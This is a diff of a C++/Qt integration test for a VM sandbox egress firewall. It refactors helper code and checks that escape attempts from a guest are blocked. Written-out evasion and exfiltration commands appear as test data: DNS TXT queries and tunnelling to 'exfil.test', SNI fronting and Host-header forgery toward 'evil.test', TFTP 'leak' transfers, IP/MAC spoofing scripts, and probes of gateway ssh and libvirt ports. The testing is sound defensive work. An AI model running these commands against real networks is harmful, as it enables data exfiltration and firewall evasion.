@@ -8,6 +8,9 @@
 // where libvirtd and its bridges live. The "outside" is 203.0.113.20, an address this test
 // puts on that namespace's loopback (and removes); nothing here sends a packet anywhere else.
 #include "daemonharness.h"
+#include "netns.h"
+#include "recordinghttpserver.h"
+#include "sentinel.h"
 
 #include <QElapsedTimer>
 #include <QFile>
@@ -17,17 +20,9 @@
 #include <QProcess>
 #include <QRegularExpression>
 #include <QTemporaryDir>
-#include "recordinghttpserver.h"
-
 #include <QTest>
-#include <arpa/inet.h>
-#include <atomic>
 #include <functional>
-#include <mutex>
-#include <netinet/in.h>
-#include <poll.h>
 #include <sys/socket.h>
-#include <thread>
 #include <unistd.h>
 
 using namespace Qt::StringLiterals;
@@ -35,66 +30,6 @@ using namespace Qt::StringLiterals;
 namespace {
 
 const QString kOutside = u"203.0.113.20"_s;
-
-struct Run {
-    int exitCode = -1;
-    QByteArray out;
-    QByteArray err;
-};
-
-Run runProgram(const QString &program, const QStringList &args, int timeoutMs = 60000)
-{
-    QProcess p;
-    p.start(program, args);
-    Run r;
-    if (!p.waitForStarted(5000))
-        return r;
-    if (!p.waitForFinished(timeoutMs)) {
-        p.kill();
-        p.waitForFinished(2000);
-        r.err = "timed out";
-        return r;
-    }
-    r.exitCode = p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -1;
-    r.out = p.readAllStandardOutput();
-    r.err = p.readAllStandardError();
-    return r;
-}
-
-// A listener on the host that a guest must never reach.
-class Sentinel {
-public:
-    // `shared`: SO_REUSEADDR; without it the port is taken even from a socket that sets it.
-    bool start(int type, const QString &ip, quint16 port, bool shared = true)
-    {
-        m_type = type;
-        m_fd = ::socket(AF_INET, type | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
-        const int one = 1;
-        if (shared)
-            ::setsockopt(m_fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
-        sockaddr_in sa{};
-        sa.sin_family = AF_INET;
-        sa.sin_port = htons(port);
-        ::inet_pton(AF_INET, ip.toLatin1().constData(), &sa.sin_addr);
-        return ::bind(m_fd, reinterpret_cast<sockaddr *>(&sa), sizeof sa) == 0 && (type != SOCK_STREAM || ::listen(m_fd, 8) == 0);
-    }
-    bool heardAnything()
-    {
-        char buf[512];
-        if (m_type == SOCK_STREAM)
-            return ::accept(m_fd, nullptr, nullptr) >= 0;
-        return ::recv(m_fd, buf, sizeof buf, MSG_DONTWAIT) >= 0;
-    }
-    ~Sentinel()
-    {
-        if (m_fd >= 0)
-            ::close(m_fd);
-    }
-
-private:
-    int m_fd = -1;
-    int m_type = SOCK_STREAM;
-};
 
 bool isSynthetic(const QString &ip)
 {
@@ -111,7 +46,7 @@ private:
     QTemporaryDir m_dir;
     RecordingHttpServer m_upstream{QByteArrayLiteral("hello from upstream\n")};
     RecordingHttpServer m_tlsUpstream; // port 443: must never see a fronted ClientHello
-    bool m_outsideAdded = false;
+    airlock::test::LoopbackAddress m_outside;
     QString m_a, m_b;         // sandbox names
     QString m_aIp, m_bIp, m_aGw, m_bGw;
     QString m_allowedSynthetic;
@@ -121,13 +56,13 @@ private:
     QString ctlBin() const { return qEnvironmentVariable("AIRLOCKCTL_BIN"); }
 
     // Runs argv inside sandbox `name` through the guest agent.
-    Run guest(const QString &name, const QStringList &argv, int timeoutMs = 90000)
+    CtlResult guest(const QString &name, const QStringList &argv, int timeoutMs = 90000)
     {
-        return runProgram(ctlBin(), QStringList{u"--socket"_s, m_daemon.socketPath(), u"exec"_s, name, u"--"_s} + argv, timeoutMs);
+        return m_daemon.guestExec(name, argv, timeoutMs);
     }
-    Run guestSh(const QString &name, const QString &script, int timeoutMs = 90000)
+    CtlResult guestSh(const QString &name, const QString &script, int timeoutMs = 90000)
     {
-        return guest(name, {u"sh"_s, u"-c"_s, script}, timeoutMs);
+        return m_daemon.guestSh(name, script, timeoutMs);
     }
     QProcess *guestAsync(const QString &name, const QStringList &argv)
     {
@@ -194,7 +129,9 @@ private:
     }
     QByteArray nftTable()
     {
-        return runProgram(u"nft"_s, {u"list"_s, u"table"_s, u"inet"_s, m_table}).out;
+        QByteArray out;
+        airlock::test::run(u"nft"_s, {u"list"_s, u"table"_s, u"inet"_s, m_table}, &out);
+        return out;
     }
     bool boot(const QString &name, QString *error)
     {
@@ -232,29 +169,19 @@ private Q_SLOTS:
 
 void TestEgressVm::initTestCase()
 {
-    if (::geteuid() != 0)
-        QFAIL("test_egressvm needs root (libvirt's system connection, nftables, an address on the namespace's loopback)");
-    QVERIFY2(!ctlBin().isEmpty(), "AIRLOCKCTL_BIN is not set: run through ctest");
     // Never touch the host's own network: the test namespace must be a namespace of its own.
-    QVERIFY2(QFile::symLinkTarget(u"/proc/self/ns/net"_s) != QFile::symLinkTarget(u"/proc/1/ns/net"_s),
-             "run inside the test network namespace: ip netns exec airlock-test ctest --preset debug -L egressvm "
-             "(tests/support/libvirt-env.sh namespace starts libvirtd there)");
+    const QString missing = airlock::test::missingVmTestPrerequisite(
+        u"test_egressvm"_s, u"libvirt's system connection, nftables, an address on the namespace's loopback"_s, u"-L egressvm"_s);
+    QVERIFY2(missing.isEmpty(), qPrintable(missing));
     QVERIFY(m_dir.isValid());
     // The outside: a test server on an address of this namespace's loopback.
-    runProgram(u"ip"_s, {u"link"_s, u"set"_s, u"lo"_s, u"up"_s});
-    const Run added = runProgram(u"ip"_s, {u"addr"_s, u"add"_s, kOutside + u"/32"_s, u"dev"_s, u"lo"_s});
-    m_outsideAdded = added.exitCode == 0;
-    QVERIFY2(m_outsideAdded || added.err.contains("File exists") || added.err.contains("already assigned"), added.err.constData());
-    m_outsideAdded = true;
+    QString error;
+    QVERIFY2(m_outside.add(kOutside, &error), qPrintable(error));
     QVERIFY2(m_upstream.start(kOutside, 80), "cannot listen on 203.0.113.20:80");
     QVERIFY2(m_tlsUpstream.start(kOutside, 443), "cannot listen on 203.0.113.20:443");
-    QFile hosts(m_dir.filePath(u"upstream-hosts"_s));
-    QVERIFY(hosts.open(QIODevice::WriteOnly));
-    hosts.write("203.0.113.20 allowed.test denied.test ask.test\n");
-    hosts.close();
-    qputenv("AIRLOCK_UPSTREAM_HOSTS", hosts.fileName().toLocal8Bit());
+    QVERIFY2(DaemonHarness::setUpstream(m_dir.path(), "203.0.113.20 allowed.test denied.test ask.test\n", {}, &error),
+             qPrintable(error));
 
-    QString error;
     QVERIFY2(m_daemon.start(DaemonHarness::sharedDataDir(), &error), qPrintable(error));
     const CtlResult status = m_daemon.ctl({u"status"_s});
     QVERIFY2(status.json().toObject().value("egress"_L1).toObject().value("enforcing"_L1).toBool(),
@@ -290,16 +217,15 @@ void TestEgressVm::cleanupTestCase()
     m_daemon.stop();
     m_upstream.stop();
     m_tlsUpstream.stop();
-    if (m_outsideAdded)
-        runProgram(u"ip"_s, {u"addr"_s, u"del"_s, kOutside + u"/32"_s, u"dev"_s, u"lo"_s});
+    m_outside.remove();
 }
 
 void TestEgressVm::guestUsesTheGatewayAsRouteAndResolver()
 {
-    const Run resolv = guest(m_a, {u"cat"_s, u"/etc/resolv.conf"_s});
+    const CtlResult resolv = guest(m_a, {u"cat"_s, u"/etc/resolv.conf"_s});
     QCOMPARE(resolv.exitCode, 0);
     QVERIFY2(resolv.out.contains(QByteArray("nameserver " + m_aGw.toLatin1())), resolv.out.constData());
-    const Run route = guest(m_a, {u"ip"_s, u"route"_s});
+    const CtlResult route = guest(m_a, {u"ip"_s, u"route"_s});
     QVERIFY2(route.out.contains(QByteArray("default via " + m_aGw.toLatin1())), route.out.constData());
     // The broker guards both sandboxes' bridges.
     const QByteArray table = nftTable();
@@ -315,7 +241,7 @@ void TestEgressVm::lsShowsPendingCounts()
 
 void TestEgressVm::allowedNameWorksEndToEnd()
 {
-    const Run r = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"30"_s, u"http://allowed.test/hello"_s});
+    const CtlResult r = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"30"_s, u"http://allowed.test/hello"_s});
     QVERIFY2(r.exitCode == 0, r.err.constData());
     QCOMPARE(r.out, QByteArray("hello from upstream\n"));
     QVERIFY(!m_upstream.requests().isEmpty() && m_upstream.requests().last().contains("Host: allowed.test"));
@@ -349,7 +275,7 @@ void TestEgressVm::askIsAnsweredFromTheCliWhileTheGuestWaits()
 
 void TestEgressVm::deniedNameGetsA403NamingTheHost()
 {
-    const Run r = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"30"_s, u"-w"_s, u"\n%{http_code}"_s, u"http://denied.test/secret"_s});
+    const CtlResult r = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"30"_s, u"-w"_s, u"\n%{http_code}"_s, u"http://denied.test/secret"_s});
     QVERIFY2(r.out.endsWith("\n403"), r.out.constData());
     QVERIFY2(r.out.contains("denied.test"), r.out.constData());
     QVERIFY2(r.out.contains(QStringLiteral("rule %1").arg(m_denyRule).toLatin1()), r.out.constData());
@@ -384,7 +310,7 @@ void TestEgressVm::dnsToAnOutsideResolverIsAnsweredInside()
 {
     // Asked of a resolver "on the internet", answered by the broker with a synthetic address:
     // the query never left (the namespace has no route out either).
-    const Run r = guest(m_a, {u"nslookup"_s, u"outside-resolver.test"_s, u"8.8.8.8"_s});
+    const CtlResult r = guest(m_a, {u"nslookup"_s, u"outside-resolver.test"_s, u"8.8.8.8"_s});
     const QRegularExpression synth(u"Address:\\s*(198\\.1[89]\\.\\d+\\.\\d+)"_s);
     QVERIFY2(synth.match(QString::fromLatin1(r.out)).hasMatch(), r.out.constData());
     const QJsonObject e = waitEvent(m_a, [](const QJsonObject &o) {
@@ -392,18 +318,18 @@ void TestEgressVm::dnsToAnOutsideResolverIsAnsweredInside()
     });
     QVERIFY2(!e.isEmpty(), "the redirected query was not recorded");
     // ... and the name leads nowhere without a decision: a connection to it is held, not made.
-    const Run held = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"3"_s, u"http://outside-resolver.test/"_s});
+    const CtlResult held = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"3"_s, u"http://outside-resolver.test/"_s});
     QVERIFY(held.exitCode != 0);
 }
 
 void TestEgressVm::dnsTxtAndTunnellingAreRefused()
 {
-    const Run txt = guest(m_a, {u"nslookup"_s, u"-type=txt"_s, u"exfil.test"_s, u"8.8.8.8"_s});
+    const CtlResult txt = guest(m_a, {u"nslookup"_s, u"-type=txt"_s, u"exfil.test"_s, u"8.8.8.8"_s});
     QVERIFY2(!txt.out.contains("text ="), txt.out.constData());
     QVERIFY2(!waitEvent(m_a, denied(u"host"_s, u"exfil.test"_s)).isEmpty(), "no denied event for the TXT query");
 
     const QString longName = QString(60, u'a') + u".secret-data-here.tunnel.test"_s;
-    const Run tunnel = guest(m_a, {u"nslookup"_s, longName, u"8.8.8.8"_s});
+    const CtlResult tunnel = guest(m_a, {u"nslookup"_s, longName, u"8.8.8.8"_s});
     QVERIFY2(!QString::fromLatin1(tunnel.out).contains(QRegularExpression(u"Address:\\s*198\\.1[89]\\."_s)), tunnel.out.constData());
     const QJsonObject e = waitEvent(m_a, [](const QJsonObject &o) {
         return o.value("decision"_L1).toString() == "denied"_L1 && o.value("reason"_L1).toString().contains("tunnelling"_L1);
@@ -415,11 +341,11 @@ void TestEgressVm::sniThatDiffersFromTheNameIsDenied()
 {
     QVERIFY(!m_allowedSynthetic.isEmpty());
     // --resolve: connect to allowed.test's address while the ClientHello names evil.test.
-    const Run resolve = guest(m_a, {u"curl"_s, u"-sSk"_s, u"--max-time"_s, u"20"_s, u"--resolve"_s,
+    const CtlResult resolve = guest(m_a, {u"curl"_s, u"-sSk"_s, u"--max-time"_s, u"20"_s, u"--resolve"_s,
                                     u"evil.test:443:"_s + m_allowedSynthetic, u"https://evil.test/"_s});
     QVERIFY(resolve.exitCode != 0);
     // --connect-to: the guest's own lookup of allowed.test, then evil.test in the handshake.
-    const Run connectTo = guest(m_a, {u"curl"_s, u"-sSk"_s, u"--max-time"_s, u"20"_s, u"--connect-to"_s,
+    const CtlResult connectTo = guest(m_a, {u"curl"_s, u"-sSk"_s, u"--max-time"_s, u"20"_s, u"--connect-to"_s,
                                       u"front.test:443:allowed.test:443"_s, u"https://front.test/"_s});
     QVERIFY(connectTo.exitCode != 0);
     for (const QString &sni : {u"evil.test"_s, u"front.test"_s}) {
@@ -436,7 +362,7 @@ void TestEgressVm::sniThatDiffersFromTheNameIsDenied()
 void TestEgressVm::hostHeaderThatDiffersIsDenied()
 {
     const int before = int(m_upstream.requests().size());
-    const Run r = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"20"_s, u"-w"_s, u"\n%{http_code}"_s, u"-H"_s,
+    const CtlResult r = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"20"_s, u"-w"_s, u"\n%{http_code}"_s, u"-H"_s,
                               u"Host: evil-host.test"_s, u"http://allowed.test/"_s});
     QVERIFY2(r.out.endsWith("\n403"), r.out.constData());
     QCOMPARE(int(m_upstream.requests().size()), before);
@@ -449,9 +375,9 @@ void TestEgressVm::hostHeaderThatDiffersIsDenied()
 void TestEgressVm::ipv6IsDropped()
 {
     // Link-local is all a guest could use: the neighbour solicitation for fe80::1 is dropped.
-    const Run r = guest(m_a, {u"curl"_s, u"-sS"_s, u"-g"_s, u"--max-time"_s, u"4"_s, u"http://[fe80::1%eth0]:80/"_s});
+    const CtlResult r = guest(m_a, {u"curl"_s, u"-sS"_s, u"-g"_s, u"--max-time"_s, u"4"_s, u"http://[fe80::1%eth0]:80/"_s});
     QVERIFY(r.exitCode != 0);
-    const Run ping = guest(m_a, {u"ping6"_s, u"-c"_s, u"1"_s, u"-W"_s, u"2"_s, u"ff02::114%eth0"_s});
+    const CtlResult ping = guest(m_a, {u"ping6"_s, u"-c"_s, u"1"_s, u"-W"_s, u"2"_s, u"ff02::114%eth0"_s});
     // A group the guest is not in (so it does not answer itself) and sends nothing to at boot.
     QVERIFY2(!ping.out.contains("bytes from"), ping.out.constData());
     QVERIFY2(!waitEvent(m_a, denied(u"ip"_s, u"ff02::1:ff00:1"_s)).isEmpty(), "no denied event for the IPv6 attempt");
@@ -464,9 +390,9 @@ void TestEgressVm::udpToOtherPortsIsDropped()
     QVERIFY(udp.start(SOCK_DGRAM, kOutside, 69));
     Sentinel hostUdp;
     QVERIFY(hostUdp.start(SOCK_DGRAM, m_aGw, 5555));
-    const Run tftp = guest(m_a, {u"timeout"_s, u"5"_s, u"tftp"_s, u"-g"_s, u"-r"_s, u"leak"_s, u"-l"_s, u"/tmp/leak"_s, kOutside});
+    const CtlResult tftp = guest(m_a, {u"timeout"_s, u"5"_s, u"tftp"_s, u"-g"_s, u"-r"_s, u"leak"_s, u"-l"_s, u"/tmp/leak"_s, kOutside});
     QVERIFY(tftp.exitCode != 0);
-    const Run viaCurl = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"3"_s, u"tftp://%1:5555/leak"_s.arg(m_aGw)});
+    const CtlResult viaCurl = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"3"_s, u"tftp://%1:5555/leak"_s.arg(m_aGw)});
     QVERIFY(viaCurl.exitCode != 0);
     QTest::qWait(300);
     QVERIFY2(!udp.heardAnything(), "UDP to another port got out");
@@ -483,7 +409,7 @@ void TestEgressVm::udpToOtherPortsIsDropped()
 void TestEgressVm::icmpIsDropped()
 {
     for (const QString &target : {m_aGw, kOutside}) {
-        const Run r = guest(m_a, {u"ping"_s, u"-c"_s, u"1"_s, u"-W"_s, u"2"_s, target});
+        const CtlResult r = guest(m_a, {u"ping"_s, u"-c"_s, u"1"_s, u"-W"_s, u"2"_s, target});
         QVERIFY2(r.exitCode != 0 && !r.out.contains("bytes from"), r.out.constData());
         const QJsonObject e = waitEvent(m_a, [target](const QJsonObject &o) {
             return o.value("proto"_L1).toString() == "icmp"_L1 && o.value("ip"_L1).toString() == target &&
@@ -499,7 +425,7 @@ void TestEgressVm::hostServicesOnTheGatewayAreUnreachable()
     Sentinel service;
     QVERIFY(service.start(SOCK_STREAM, m_aGw, 2222));
     for (const QString &port : {u"2222"_s, u"22"_s, u"16509"_s}) { // a listener, ssh, libvirt's TCP port
-        const Run r = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"5"_s, u"http://%1:%2/"_s.arg(m_aGw, port)});
+        const CtlResult r = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"5"_s, u"http://%1:%2/"_s.arg(m_aGw, port)});
         QVERIFY(r.exitCode != 0);
         const QString gw = m_aGw;
         const QJsonObject e = waitEvent(m_a, [gw, port](const QJsonObject &o) {
@@ -517,12 +443,12 @@ void TestEgressVm::anotherSandboxIsUnreachable()
 {
     // B serves HTTP to itself; A must not reach it.
     QCOMPARE(guestSh(m_b, u"echo hello-from-b > /tmp/index.html; httpd -p 8080 -h /tmp"_s).exitCode, 0);
-    const Run local = guest(m_b, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"10"_s, u"http://127.0.0.1:8080/index.html"_s});
+    const CtlResult local = guest(m_b, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"10"_s, u"http://127.0.0.1:8080/index.html"_s});
     QVERIFY2(local.out.contains("hello-from-b"), local.err.constData());
-    const Run r = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"10"_s, u"http://%1:8080/index.html"_s.arg(m_bIp)});
+    const CtlResult r = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"10"_s, u"http://%1:8080/index.html"_s.arg(m_bIp)});
     QVERIFY(r.exitCode != 0);
     QVERIFY(!r.out.contains("hello-from-b"));
-    const Run ping = guest(m_a, {u"ping"_s, u"-c"_s, u"1"_s, u"-W"_s, u"2"_s, m_bIp});
+    const CtlResult ping = guest(m_a, {u"ping"_s, u"-c"_s, u"1"_s, u"-W"_s, u"2"_s, m_bIp});
     QVERIFY(ping.exitCode != 0);
     const QString b = m_bIp;
     const QJsonObject tcp = waitEvent(m_a, [b](const QJsonObject &o) {
@@ -547,7 +473,7 @@ void TestEgressVm::changingTheGuestIpIsDropped()
                            "curl -sS --max-time 4 http://203.0.113.20/spoof; rc=$?; "
                            "ip addr del %2/24 dev eth0; ip addr add %1/30 dev eth0; ip route add default via %3; exit $rc"_s
                                .arg(m_aIp, spoof, m_aGw);
-    const Run r = guestSh(m_a, script);
+    const CtlResult r = guestSh(m_a, script);
     QVERIFY2(r.exitCode != 0, r.out.constData());
     const QJsonObject e = waitEvent(m_a, [spoof](const QJsonObject &o) {
         return o.value("decision"_L1).toString() == "denied"_L1 && o.value("reason"_L1).toString().contains(u"spoofed source "_s + spoof);
@@ -558,20 +484,20 @@ void TestEgressVm::changingTheGuestIpIsDropped()
     for (const QByteArray &req : m_upstream.requests())
         QVERIFY(!req.contains("/spoof"));
     // Back on its own address the guest works again.
-    const Run again = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"20"_s, u"http://allowed.test/back"_s});
+    const CtlResult again = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"20"_s, u"http://allowed.test/back"_s});
     QCOMPARE(again.out, QByteArray("hello from upstream\n"));
 }
 
 void TestEgressVm::changingTheGuestMacIsDropped()
 {
-    const Run mac = guest(m_a, {u"cat"_s, u"/sys/class/net/eth0/address"_s});
+    const CtlResult mac = guest(m_a, {u"cat"_s, u"/sys/class/net/eth0/address"_s});
     const QString original = QString::fromLatin1(mac.out).trimmed();
     QVERIFY2(original.count(u':') == 5, mac.out.constData());
     const QString script = u"ip link set eth0 down; ip link set eth0 address 52:54:00:66:66:66; ip link set eth0 up; "
                            "ip route add default via %2 2>/dev/null; curl -sS --max-time 4 http://allowed.test/mac; rc=$?; "
                            "ip link set eth0 down; ip link set eth0 address %1; ip link set eth0 up; "
                            "ip route add default via %2 2>/dev/null; exit $rc"_s.arg(original, m_aGw);
-    const Run r = guestSh(m_a, script);
+    const CtlResult r = guestSh(m_a, script);
     QVERIFY2(r.exitCode != 0, r.out.constData());
     const QString ip = m_aIp;
     const QJsonObject e = waitEvent(m_a, [ip](const QJsonObject &o) {
@@ -580,7 +506,7 @@ void TestEgressVm::changingTheGuestMacIsDropped()
     QVERIFY2(!e.isEmpty(), "no denied event for the changed MAC");
     for (const QByteArray &req : m_upstream.requests())
         QVERIFY(!req.contains("/mac"));
-    const Run again = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"20"_s, u"http://allowed.test/back-again"_s});
+    const CtlResult again = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"20"_s, u"http://allowed.test/back-again"_s});
     QCOMPARE(again.out, QByteArray("hello from upstream\n"));
 }
 
@@ -595,16 +521,16 @@ void TestEgressVm::rulesFollowTheSandboxAndSurviveADaemonRestart()
     QVERIFY2(m_daemon.start(DaemonHarness::sharedDataDir(), &error), qPrintable(error));
     QVERIFY(m_daemon.ctl({u"status"_s}).json().toObject().value("egress"_L1).toObject().value("sandboxes"_L1).toInt() >= 2);
     QCOMPARE(nftTable().count("jump sb"), guarded);
-    const Run again = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"20"_s, u"http://allowed.test/restarted"_s});
+    const CtlResult again = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"20"_s, u"http://allowed.test/restarted"_s});
     QCOMPARE(again.out, QByteArray("hello from upstream\n"));
-    const Run gw = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"5"_s, u"http://%1:2222/"_s.arg(m_aGw)});
+    const CtlResult gw = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"5"_s, u"http://%1:2222/"_s.arg(m_aGw)});
     QVERIFY(gw.exitCode != 0);
 
     // Killing B takes its rules away; A's stay and A still works.
     QCOMPARE(m_daemon.ctl({u"kill"_s, m_b}).exitCode, 0);
     QCOMPARE(nftTable().count("jump sb"), guarded - 1);
     QVERIFY(!nftTable().contains(m_bGw.toLatin1()));
-    const Run still = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"20"_s, u"http://allowed.test/still"_s});
+    const CtlResult still = guest(m_a, {u"curl"_s, u"-sS"_s, u"--max-time"_s, u"20"_s, u"http://allowed.test/still"_s});
     QCOMPARE(still.out, QByteArray("hello from upstream\n"));
 }
 
